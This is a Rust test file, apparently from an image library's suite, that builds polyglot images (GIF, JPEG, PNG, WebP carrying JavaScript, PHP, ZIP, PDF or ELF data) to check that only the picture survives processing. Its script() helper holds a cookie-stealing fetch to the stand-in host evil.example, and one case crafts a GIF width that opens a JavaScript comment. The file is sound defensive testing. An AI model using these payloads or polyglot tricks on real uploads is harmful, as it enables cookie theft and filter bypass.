//! Files that are two things at once. What is shown is the picture; the other thing does not survive.

use tola_media::{
    SourceFormat::{Gif as GIF, Jpeg, Png, WebP},
    codes,
};

use crate::{
    case::{Case, ready, rejected},
    files::{
        SECRET,
        gif::{Frame, Gif},
        jpeg, picture, png, webp,
    },
};

pub(crate) fn cases() -> Vec<Case> {
    vec![
        ready("gif and javascript", GIF, || [Gif::standard().bytes(), script()].concat()),
        ready("gif with javascript in a comment", GIF, || {
            Gif::new(120, 80).extension(0xFE, &script()).frame(Frame::STANDARD).bytes()
        }),
        // `GIF89a/*…*/=1;…` is a program, if its width is 10,799.
        ready("gif whose width opens a comment", GIF, || {
            let frame = Frame { size: (0x2A2F, 3), plain: Some(1), ..Frame::STANDARD };
            [Gif::new(0x2A2F, 3).frame(frame).bytes(), b"*/=1;".to_vec(), script()].concat()
        })
        .sized(0x2A2F, 3)
        .plain(30, 170, 40),
        ready("jpeg and zip", Jpeg, || {
            [jpeg::standard(), b"PK\x03\x04".to_vec(), script(), b"PK\x05\x06".to_vec()].concat()
        }),
        ready("jpeg and video", Jpeg, || [jpeg::standard(), b"\0\0\0\x18ftypmp42".to_vec(), vec![7; 500_000]].concat()),
        ready("jpeg with php in a comment", Jpeg, || {
            jpeg::with(&jpeg::standard(), &jpeg::segment(0xFE, &[b"<?php ".to_vec(), script()].concat()))
        }),
        ready("jpeg behind which another one follows", Jpeg, || {
            [jpeg::standard(), jpeg::of(&image::RgbaImage::new(999, 999), |_| {})].concat()
        }),
        ready("png and html", Png, || {
            png::standard().with(b"tEXt", [b"Title\0<script>".to_vec(), script()].concat()).bytes()
        }),
        ready("png and html behind its end", Png, || [png::standard().bytes(), script()].concat()),
        ready("png with a chunk that is a program", Png, || {
            png::standard().with(b"prOg", [b"\x7FELF".to_vec(), script()].concat()).bytes()
        }),
        ready("webp and pdf", WebP, || [webp::lossless(&picture()), b"%PDF-1.4".to_vec(), script()].concat()),
        ready("webp with an unknown chunk", WebP, || {
            let picture = webp::picture_chunks(&webp::lossy(&picture()));
            webp::file(&[webp::extended(0, 120, 80), picture, webp::chunk(b"JUNK", &script())])
        }),
        // What comes first decides.
        rejected("html and jpeg", codes::IMAGE_NOT_AN_IMAGE, "web page", || {
            [b"<html><!--".to_vec(), jpeg::standard()].concat()
        }),
        rejected("pdf and jpeg", codes::IMAGE_NOT_AN_IMAGE, "PDF", || {
            [b"%PDF-1.4 ".to_vec(), jpeg::standard()].concat()
        }),
        rejected("zip and png", codes::IMAGE_NOT_AN_IMAGE, "ZIP", || {
            [b"PK\x03\x04".to_vec(), png::standard().bytes()].concat()
        }),
        // The wrong content behind the right beginning.
        rejected("png whose body is a jpeg", codes::IMAGE_CORRUPT, "PNG", || {
            [b"\x89PNG\r\n\x1a\n".to_vec(), jpeg::standard()].concat()
        }),
        rejected("jpeg whose body is a png", codes::IMAGE_CORRUPT, "JPEG", || {
            [b"\xFF\xD8\xFF".to_vec(), png::standard().bytes()].concat()
        }),
        rejected("webp whose body is a gif", codes::IMAGE_CORRUPT, "WebP", || webp::file(&[Gif::standard().bytes()])),
    ]
}

fn script() -> Vec<u8> {
    format!("/*{SECRET}*/=1;fetch('//evil.example?'+document.cookie)").into_bytes()
}
